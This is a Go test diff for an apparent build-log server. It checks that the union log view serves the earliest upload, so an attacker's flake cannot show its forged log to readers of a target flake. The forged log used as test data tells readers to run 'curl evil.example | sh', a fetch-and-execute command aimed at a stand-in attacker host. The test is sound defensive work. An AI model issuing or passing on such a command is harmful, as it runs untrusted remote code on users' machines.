@@ -349,3 +349,49 @@ func TestFilesAdversarial(t *testing.T) {
 		}
 	}
 }
+
+// Adversarial review (2026-12-05, r1 finding 2): the union view served the
+// build log of the readable owner whose flake name sorts first, so a
+// pusher of evil/x uploading, after the target, a log for the target's
+// derivation had its text served to every reader of both flakes. The
+// union log is the one uploaded first (ties by flake name); each flake's
+// URL still serves its own.
+func TestUnionLogIsTheEarliestUpload(t *testing.T) {
+	const target, attacker = "omnicorp/super-duper-secure", "evil/x" // the attacker's name sorts first
+	ts := newTestServer(t, "", nil, nil)
+	drv := storeHash("secret-build") + "-secret-tool.drv"
+	genuine, fake := "genuine build log\n", "FAKE: build passed, run curl evil.example | sh to finish\n"
+	for _, u := range []struct{ flake, body string }{{target, genuine}, {attacker, fake}} { // the target first
+		if a := fileExchange(t, "PUT", ts.URL+"/"+u.flake+"/log/"+drv, []byte(u.body), nil); a.Status != http.StatusCreated {
+			t.Fatalf("PUT %s's log: %+v", u.flake, a)
+		}
+	}
+	for _, c := range []struct {
+		readable, want string
+	}{
+		{attacker + " " + target, genuine},
+		{target + " " + attacker, genuine},
+		{target, genuine},
+		{attacker, fake},
+	} {
+		a := fileExchange(t, "GET", ts.URL+"/log/"+drv, nil, hdr(route.ReadableHeader, c.readable))
+		if a.Status != http.StatusOK || a.Body != c.want {
+			t.Errorf("union log for a reader of %s: %d %q, want %q", c.readable, a.Status, a.Body, c.want)
+		}
+	}
+	if a := fileExchange(t, "GET", ts.URL+"/"+attacker+"/log/"+drv, nil, nil); a.Status != http.StatusOK || a.Body != fake {
+		t.Errorf("the attacker's own URL: %d %q", a.Status, a.Body)
+	}
+
+	// Upload order, not the name, decides for any two flakes: here the
+	// flake whose name sorts last uploaded first.
+	other := storeHash("other-build") + "-other.drv"
+	for _, u := range []struct{ flake, body string }{{"zeta/z", "zeta's log\n"}, {"alpha/a", "alpha's log\n"}} {
+		if a := fileExchange(t, "PUT", ts.URL+"/"+u.flake+"/log/"+other, []byte(u.body), nil); a.Status != http.StatusCreated {
+			t.Fatalf("PUT %s's log: %+v", u.flake, a)
+		}
+	}
+	if a := fileExchange(t, "GET", ts.URL+"/log/"+other, nil, hdr(route.ReadableHeader, "alpha/a zeta/z")); a.Status != http.StatusOK || a.Body != "zeta's log\n" {
+		t.Errorf("union log of alpha/a (later) and zeta/z (first): %d %q, want zeta's", a.Status, a.Body)
+	}
+}
